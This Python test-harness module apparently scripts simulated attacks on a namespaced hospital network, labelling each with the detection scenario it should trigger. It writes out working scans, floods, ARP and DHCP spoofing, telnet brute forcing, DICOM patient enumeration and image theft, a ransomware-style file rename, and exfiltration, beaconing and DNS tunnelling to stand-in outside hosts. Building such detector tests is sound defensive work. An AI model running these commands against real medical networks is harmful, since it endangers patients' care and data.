"""The attack episodes: what is done, from where, to whom, and the scenario that must name it."""

import os
import random
import subprocess
import sys
import time

import net
from hosts import BY_KEY, CALL_HOME, OUTSIDE

HERE = os.path.dirname(os.path.abspath(__file__))
IP = {k: h.ip for k, h in BY_KEY.items()}
AE = {"vent": "VENT", "ct1": "CT1", "us1": "US1", "mr1": "MR1", "viewer1": "VIEWER1", "viewer2": "VIEWER2"}
STRANGERS = ("laptop", "rogue")
INSIDERS = ("ws1", "viewer1", "viewer2", "biomed", "lab1")
BEDSIDE = tuple(k for k in BY_KEY if k.startswith(("vent", "mon", "pump")))
MODALITIES = ("ct1", "us1", "mr1")


class Episode:
    """One attack: `actor` is the host that does it, `victim` a host key, an address or ''."""

    def __init__(self, kind, rng):
        self.kind, self.rng = kind, rng
        self.scenario, actors, victims, self.steps = KINDS[kind]
        self.actor = rng.choice(actors)
        self.victim = rng.choice([v for v in victims if v != self.actor] or victims)
        self.background = []

    @property
    def actor_ip(self):
        return IP[self.actor]

    @property
    def victim_ip(self):
        return IP.get(self.victim, self.victim)

    def run(self, ward):
        self.ward = ward
        try:
            self.steps(self)
        finally:
            for p in self.background:
                p.terminate()
                p.wait(5)

    def sh(self, *args, who=None, seconds=25, text=None):
        """A program in the actor's namespace, to its end or until the time is over."""
        try:
            subprocess.run(net.inside(who or self.actor, *map(str, args)), input=text, text=True, timeout=seconds,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
        except subprocess.TimeoutExpired:
            pass

    def start(self, *args, who=None):
        self.background.append(subprocess.Popen(
            net.inside(who or self.actor, *map(str, args)), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL, cwd=self.ward.work))
        time.sleep(0.3)

    def raw(self, name, *args, who=None):
        """What no program offers: our own few octets (raw.py)."""
        self.sh(sys.executable, f"{HERE}/raw.py", name, self.ward.work, *args, who=who)

    def dicom(self, program, *args, calling=None, called="WARDPACS", host=None, port=11112):
        self.sh(program, "-q", "-aet", calling or AE.get(self.actor, "SCOUT"), "-aec", called, host or self.victim_ip, port,
                *args)


def nmap(*args):
    return lambda e: e.sh("nmap", "-n", "-Pn", *args, e.victim_ip)


def sweep(*args):
    return lambda e: e.sh("nmap", "-n", *args, "10.77.1.10-41", "10.77.2.10-33", "10.77.3.10-31")


def hping(*args):
    return lambda e: e.sh("timeout", "6", "hping3", "-q", *args, e.victim_ip)


def arp_spoof(e):
    """Between two bedside devices and the engine, both ways, as dsniff does it; forwarding keeps care going."""
    e.start("arpspoof", "-i", "eth0", "-t", IP[e.rng.choice(BEDSIDE)], e.victim_ip)
    time.sleep(8)
    e.background.pop().send_signal(2)
    time.sleep(4)  # it puts the tables right again


def hydra(e):
    with open(f"{e.ward.work}/words", "w", encoding="ascii") as f:
        f.write("admin\nroot\nservice\n1234\nmedical\n")
    e.sh("hydra", "-q", "-t", "2", "-w", "3", "-L", f"{e.ward.work}/words", "-P", f"{e.ward.work}/words", f"telnet://{e.victim_ip}",
         seconds=10)


def telnet(e):
    e.sh("nc", "-w", "2", e.victim_ip, 23, text="service\r\nservice\r\nuptime\r\n")


def guess_titles(e):
    for name in e.rng.sample(("PACS", "ORTHANC", "CONQUESTSRV1", "DCM4CHEE", "ARCHIVE", "STORESCP", "QRSCP", "VNA",
                              "MAINPACS", "RADPACS", "HOSPITAL", "MINIPACS"), 8):
        e.dicom("echoscu", called=name, calling="SCOUT")


def echo_sweep(e):
    for key in ("pacs", "vna", "ris", "viewer1", "viewer2"):
        e.dicom("echoscu", host=IP[key], port=11113 if key.startswith("viewer") else 11112, called="ANY-SCP")


def list_patients(e):
    for keys in (("0010,0010=*",), ("0010,0010",), ("0010,0020=*",)):
        e.dicom("findscu", "-P", "-k", "0008,0052=PATIENT", "-k", "0010,0020", *(a for k in keys for a in ("-k", k)))
        time.sleep(0.3)


def move_away(e):
    for n in e.rng.sample(range(1, 41), 4):
        e.dicom("movescu", "-S", "-aem", "RESEARCH", "-k", "0008,0052=STUDY", "-k", f"0020,000D=2.25.77{n:010d}")


def pull_all(e):
    os.makedirs(f"{e.ward.work}/stolen", exist_ok=True)
    for n in range(1, 41):
        e.dicom("getscu", "-S", "-od", f"{e.ward.work}/stolen", "-k", "0008,0052=STUDY",
                "-k", f"0020,000D=2.25.77{n:010d}")


def images_of(e, kind="ct"):
    folder = f"{e.ward.work}/{kind}"
    return f"{folder}/{e.rng.choice(sorted(os.listdir(folder)))}"


def borrow_title(e):
    e.dicom("storescu", "+sd", images_of(e), calling="CT1")


def change_image(e, *edits):
    """A copy of a stored image with other content, made with dcmodify or dump2dcm."""
    source = f"{images_of(e)}/0.dcm"
    copy = f"{e.ward.work}/changed.dcm"
    subprocess.run(["cp", source, copy], check=True)
    subprocess.run(["dcmodify", "-q", "-nb", *edits, copy], check=False, stderr=subprocess.DEVNULL)
    return source, copy


def overwrite(e):
    source, copy = change_image(e, "-i", "(0008,103e)=" + "altered " * 7, "-i", "(0020,4000)=" + "x" * 900)
    e.sh("storescu", "-q", "-aet", "CT1", "-aec", "WARDPACS", e.victim_ip, 11112, source, who="ct1")
    time.sleep(1)
    e.dicom("storescu", copy)


def executable(e):
    program = f"{e.ward.work}/program.bin"
    with open(program, "wb") as f, open("/bin/true", "rb") as elf:
        f.write(elf.read(6000))
    _, copy = change_image(e, "-i", "(0009,0010)=PRIVATE", "-if", f"(0009,1001)={program}")
    e.dicom("storescu", copy)


def rogue_worklist(e):
    e.start("wlmscpfs", "-q", "-dfr", "-dfp", f"{e.ward.work}/worklist", "11112", who="rogue")
    e.sh("findscu", "-q", "-W", "-aet", AE[e.victim], "-aec", "WORKLIST", IP["rogue"], 11112, "-k", "0010,0010", who=e.victim)


def strange_port(e):
    os.makedirs(f"{e.ward.work}/drop", exist_ok=True)
    e.start("storescp", "-q", "--ignore", "-aet", "DROP", "-od", f"{e.ward.work}/drop", "4104", who=e.victim)
    e.dicom("storescu", "+sd", images_of(e), called="DROP", port=4104)


def abort_storm(e):
    for _ in range(8):
        e.dicom("echoscu", "--abort")


def query_from_modality(e):
    e.dicom("findscu", "-S", "-k", "0008,0052=STUDY", "-k", "0010,0020=P00007", "-k", "0020,000D")


def clear_instead_of_tls(e):
    e.sh("storescu", "-q", "-ta", "3", "-aet", "MR1", "-aec", "VNA", IP["vna"], 2762, "+sd", images_of(e, "mr"))


def silent(e):
    """Cable out for longer than a ventilator may be quiet."""
    device = net.ns(e.victim)
    subprocess.run(["ip", "-n", device, "link", "set", "eth0", "down"], check=False)
    time.sleep(100)
    subprocess.run(["ip", "-n", device, "link", "set", "eth0", "up"], check=False)
    subprocess.run(["ip", "-n", device, "route", "replace", "default", "via", IP["gw"]], check=False)
    subprocess.run(["ip", "-n", device, "route", "replace", "239.0.0.0/8", "dev", "eth0"], check=False)


def take_address(e):
    """The attacker answers for an address that is in use, and talks under it."""
    e.sh("ip", "addr", "add", f"{e.victim_ip}/32", "dev", "eth0")
    e.sh("arping", "-q", "-U", "-c", "3", "-i", "eth0", "-S", e.victim_ip, e.victim_ip)
    e.sh("ip", "addr", "del", f"{e.victim_ip}/32", "dev", "eth0")


def beacon(e):
    for _ in range(14):
        begun = time.time()
        e.sh("curl", "-s", "-m", "1", "-o", "/dev/null", f"http://{OUTSIDE}/ping?id=77")
        time.sleep(max(0, 1 - (time.time() - begun)))


def upload(octets):
    def steps(e):
        path = f"{e.ward.work}/loot"
        with open(path, "wb") as f:
            f.write(random.Random(7).randbytes(octets))
        e.sh("curl", "-s", "-m", "9", "-H", "Expect:", "-T", path, f"http://{e.victim}:8443/in")
    return steps


def dns_tunnel(e):
    for _ in range(36):
        label = "".join(e.rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(52))
        e.sh("dig", "+tries=1", "+time=1", f"@{IP['svc']}", "TXT", f"{label}.t.badexample.net")


def call_home(e):
    e.sh("nc", "-w", "3", CALL_HOME, 515, text="monitor data\n" * 20)


def contact(e):
    e.sh("curl", "-s", "-m", "4", "-o", "/dev/null", f"http://{OUTSIDE}/tool.bin")


def smb(e):
    for _ in range(3):
        e.sh("smbclient", "-N", f"//{e.victim_ip}/images", "-c", "ls")


def ransom(e):
    """Files of the share written anew and renamed, as an encrypting program does."""
    path = f"{e.ward.work}/noise"
    with open(path, "wb") as f:
        f.write(random.Random(9).randbytes(60_000))
    steps = "; ".join(f"put {path} study{n}.dcm; rename study{n}.dcm study{n}.dcm.locked" for n in range(60))
    e.sh("smbclient", "-N", f"//{e.victim_ip}/images", "-c", steps)


def remote_control(e):
    port = e.rng.choice((3389, 5900))
    hello = "RFB 003.008\n" if port == 5900 else "\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0"
    e.start("sh", "-c", f"while true; do printf 'RFB 003.008\\n' | nc -l -q 5 {port}; done", who=e.victim)
    e.sh("nc", "-w", "3", e.victim_ip, port, text=hello)


def firmware(e):
    path = f"{e.ward.work}/firmware"
    with open(path, "wb") as f:
        f.write(random.Random(11).randbytes(3_000_000))
    e.sh("curl", "-s", "-m", "8", "-H", "Expect:", "-T", path, f"http://{e.victim_ip}/upgrade/firmware.bin")


def web_probe(e):
    e.sh("nmap", "-n", "-Pn", "-p", "80", "--script", "http-enum,http-title,http-methods,http-headers,http-auth-finder",
         e.victim_ip, seconds=20)
    for path in ("admin", "cgi-bin/test.cgi", "../../etc/passwd", "setup.php", ".git/config", "wp-login.php", "manager/html",
                 "config.bak", "phpmyadmin", "shell.jsp", "api/v1/users", "backup.zip"):
        e.sh("curl", "-s", "-m", "2", "-o", "/dev/null", "-A", "Mozilla/5.0 (scanner)", f"http://{e.victim_ip}/{path}")


def rogue_dhcp(e):
    """A second server answers a device that renews."""
    e.start("dnsmasq", "-k", "-C", "/dev/null", "--port=0", "--user=root", "--pid-file=", "--dhcp-authoritative",
            f"--dhcp-leasefile={e.ward.work}/rogue-leases", "--dhcp-range=10.77.9.100,10.77.9.200,255.255.0.0,120",
            f"--dhcp-option=3,{e.actor_ip}", f"--dhcp-option=6,{e.actor_ip}", "--bind-interfaces", "--interface=eth0")
    e.sh("timeout", "4", "udhcpc", "-f", "-n", "-q", "-t", "2", "-T", "1", "-i", "eth0", "-s", "/bin/true", who=e.victim)


def mqtt_flood(e):
    lines = "".join(f"{n} {'x' * 200}\n" for n in range(6000))
    for _ in range(2):
        e.sh("mosquitto_pub", "-h", IP["broker"], "-t", "pumps/pump3/status", "-l", text=lines, seconds=6)


def mqtt_connects(e):
    e.sh("sh", "-c", f"for i in $(seq 1 250); do mosquitto_pub -h {IP['broker']} -i c$i -u admin -P p$i -t a -n & "
         "[ $((i % 25)) = 0 ] && wait; done; wait", seconds=20)


def mqtt_snoop(e):
    e.sh("timeout", "5", "mosquitto_sub", "-h", IP["broker"], "-t", "#", "-t", "$SYS/#")


def mqtt_spoof(e):
    e.sh("mosquitto_pub", "-h", IP["broker"], "-t", "wardwire/v1/site/sensor/verdict/critical", "-m", '{"schema":"wardwire.verdict.v1"}')


def mining(e):
    job = '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n{"id":2,"method":"mining.authorize","params":["a.b","x"]}\n'
    e.sh("nc", "-w", "3", OUTSIDE, 8443, text=job)


def old_tls(e):
    e.sh("openssl", "s_client", "-connect", f"{IP['ris']}:443", "-tls1_2", text="GET / HTTP/1.0\r\n\r\n")


def raw(name, *args):
    return lambda e: e.raw(name, e.victim_ip, *args)


def plan(rng, count, only=()):
    """`count` episodes: every kind in turn, in an order, with actors and victims drawn from the seed."""
    kinds = [k for k in KINDS if not only or k in only]
    unknown = [k for k in only if k not in KINDS]
    if unknown:
        raise SystemExit(f"unknown kinds of attack: {', '.join(unknown)}; there are {', '.join(KINDS)}")
    out = []
    while len(out) < count:
        rng.shuffle(kinds)
        out += [Episode(k, rng) for k in kinds[:count - len(out)]]
    return out


ANY = STRANGERS + INSIDERS
# kind: (scenario, actors, victims, steps)
KINDS = {
    "port scan": ("net.scan.ports", ANY, BEDSIDE, nmap("-sS", "-T4", "--max-retries", "1", "-p", "1-300")),
    "connect scan": ("net.scan.ports", ANY, ("pacs", "engine", "broker", "ris"), nmap("-sT", "-F")),
    "xmas scan": ("net.scan.ports", STRANGERS, BEDSIDE, nmap("-sX", "-p", "1-80", "--max-retries", "0")),
    "udp scan": ("net.scan.ports", STRANGERS, BEDSIDE, nmap("-sU", "-T4", "--max-retries", "0", "-p", "50-110")),
    "slow scan": ("net.scan.ports", STRANGERS, BEDSIDE, nmap("-sS", "--scan-delay", "300ms", "-p", "20-60", "--max-retries", "0")),
    "arp sweep": ("net.scan.hosts", STRANGERS, ("",), sweep("-sn", "-PR")),
    "service sweep": ("net.scan.hosts", ANY, ("",), sweep("-Pn", "-p", "104,11112,2575,1883", "--max-retries", "0")),
    "web probe": ("net.scan.vulnerability", ANY, BEDSIDE, web_probe),
    "syn flood": ("net.flood", STRANGERS, ("pacs", "engine", "vent1", "pump1"), hping("-S", "-p", "80", "-i", "u1500")),
    "udp flood": ("net.flood", STRANGERS, ("vent2", "mon1", "engine"), hping("-2", "-p", "53", "-i", "u300", "-d", "64")),
    "icmp flood": ("net.flood", STRANGERS, ("vent3", "mon2", "pacs"), hping("-1", "-i", "u2000")),
    "arp spoofing": ("net.arp.spoof", ("laptop",), ("engine", "pacs"), arp_spoof),
    "telnet passwords": ("net.cleartext", ANY, ("vent1", "vent2", "vent3"), hydra),
    "telnet": ("net.cleartext", ANY, ("vent4",), telnet),
    "AE titles guessed": ("dicom.ae.brute_force", STRANGERS, ("pacs",), guess_titles),
    "unknown AE title": ("dicom.ae.unknown", ("rogue", "ws1", "biomed"), ("pacs",), lambda e: e.dicom("echoscu", calling=f"X{e.rng.randrange(99)}")),
    "borrowed AE title": ("dicom.ae.wrong_host", ("rogue", "ws1", "laptop"), ("pacs",), borrow_title),
    "echo sweep": ("dicom.echo.sweep", ANY, ("pacs",), echo_sweep),
    "all patients listed": ("dicom.find.enumeration", ("viewer1", "viewer2", "rogue"), ("pacs",), list_patients),
    "images moved away": ("dicom.move.destination", ("viewer1", "viewer2"), ("pacs",), move_away),
    "images pulled": ("dicom.get.bulk", ("viewer1", "rogue"), ("pacs",), pull_all),
    "image changed": ("dicom.store.overwrite", ("viewer2", "us1"), ("pacs",), overwrite),
    "program in an image": ("dicom.dataset.executable", ("ct1", "rogue"), ("pacs",), executable),
    "false worklist": ("dicom.worklist.rogue", ("rogue",), MODALITIES, rogue_worklist),
    "strange DICOM port": ("dicom.port.unusual", MODALITIES, ("viewer1", "viewer2"), strange_port),
    "abort storm": ("dicom.abort.storm", MODALITIES, ("pacs",), abort_storm),
    "query from a modality": ("dicom.sop.unexpected", MODALITIES, ("pacs",), query_from_modality),
    "DICOM in clear instead of TLS": ("dicom.tls.downgrade", ("mr1",), ("vna",), clear_instead_of_tls),
    "association flood": ("dicom.association.flood", STRANGERS, ("pacs", "ris"), raw("association_flood")),
    "associations left open": ("dicom.association.abandoned", STRANGERS, ("pacs",), raw("abandoned")),
    "DICOM out of order": ("dicom.state.violation", ANY, ("pacs", "ris"), raw("violation")),
    "malformed DICOM": ("dicom.pdu.malformed", ANY, ("pacs", "ris"), raw("malformed")),
    "context nobody agreed": ("dicom.context.unnegotiated", ANY, ("pacs",), raw("context")),
    "absurd PDU length": ("dicom.pdu.max_length", ANY, ("pacs",), raw("max_length")),
    "deletion": ("dicom.delete", ("viewer1", "rogue"), ("pacs",), raw("delete")),
    "unknown HL7 sender": ("hl7.sender.unknown", ANY, ("engine",), raw("unknown_sender")),
    "borrowed HL7 sender": ("hl7.sender.wrong_host", ("rogue", "ws1", "laptop"), ("engine",), raw("borrowed_sender")),
    "HL7 replay": ("hl7.control_id.replayed", ("mon1", "mon2", "mon3"), ("engine",), raw("replay")),
    "merges": ("hl7.adt.merge", ("his",), ("engine",), raw("merges")),
    "impossible vitals": ("hl7.value.implausible", ("mon1", "mon4"), ("engine",), raw("implausible")),
    "unit exchanged": ("hl7.value.unit", ("vent1", "vent4"), ("engine",), raw("unit")),
    "infusion order": ("hl7.infusion.order", ("his", "ws1"), ("engine",), raw("infusion")),
    "patients queried": ("hl7.query.enumeration", ("his",), ("engine",), raw("queries")),
    "HL7 flood": ("hl7.flood", ("lab1", "his"), ("engine",), raw("hl7_flood")),
    "HL7 bomb": ("hl7.message.oversize", ("lab1", "his"), ("engine",), raw("bomb")),
    "HL7 smuggling": ("hl7.framing.smuggling", ("lab1", "his"), ("engine",), raw("smuggling")),
    "alarm flood": ("hl7.alarm", ("mon1", "mon3"), ("engine",), raw("alarms")),
    "HL7 to the outside": ("hl7.external", ("vent1", "mon3", "pump2"), (OUTSIDE,), raw("external", OUTSIDE)),
    "beacon": ("net.beacon", ("pump3", "us1", "ws1"), (OUTSIDE,), beacon),
    "exfiltration": ("net.exfiltration", ("viewer1", "ws1"), (OUTSIDE,), upload(56_000_000)),
    "small exfiltration": ("net.peer.external", ("mr1", "pacs", "ct1"), (OUTSIDE,), upload(3_000_000)),
    "outside contact": ("net.peer.external", ("pump1", "vent2", "mon4", "lab1"), (OUTSIDE,), contact),
    "built-in call home": ("net.call_home.known", ("mon1", "mon2", "mon3", "mon4"), (CALL_HOME,), call_home),
    "file share touched": ("net.smb.lateral", ("ct1", "us1", "viewer1", "lab1"), ("nas",), smb),
    "files encrypted": ("net.ransomware", ("mr1", "ws1"), ("nas",), ransom),
    "remote control": ("net.remote_access", ANY, ("ct1", "us1", "vent1", "pump2"), remote_control),
    "firmware pushed": ("net.firmware.push", ANY, BEDSIDE, firmware),
    "DNS tunnel": ("net.dns.tunnel", ("ws1", "viewer2", "us1", "pump2"), ("svc",), dns_tunnel),
    "false DHCP server": ("net.dhcp.rogue", STRANGERS, ("vent1", "mon2", "pump1"), rogue_dhcp),
    "address taken": ("net.arp.spoof", STRANGERS, ("vent3", "mon4", "pump2"), take_address),
    "silence": ("device.silent", ("vent4",), ("vent4",), silent),
    "MQTT publish flood": ("mqtt.publish.flood", ("pump4", "rogue"), ("broker",), mqtt_flood),
    "MQTT connect flood": ("mqtt.connect.flood", STRANGERS, ("broker",), mqtt_connects),
    "MQTT snooping": ("mqtt.subscribe.wildcard", ANY, ("broker",), mqtt_snoop),
    "MQTT malformed": ("mqtt.malformed", ANY, ("broker",), raw("mqtt_malformed")),
    "false verdict": ("mqtt.verdict.spoof", ANY, ("broker",), mqtt_spoof),
    "mining": ("net.mining", ("ws1", "viewer2", "us1"), (OUTSIDE,), mining),
    "old TLS": ("net.tls.downgrade", ("ws1",), ("ris",), old_tls),
}
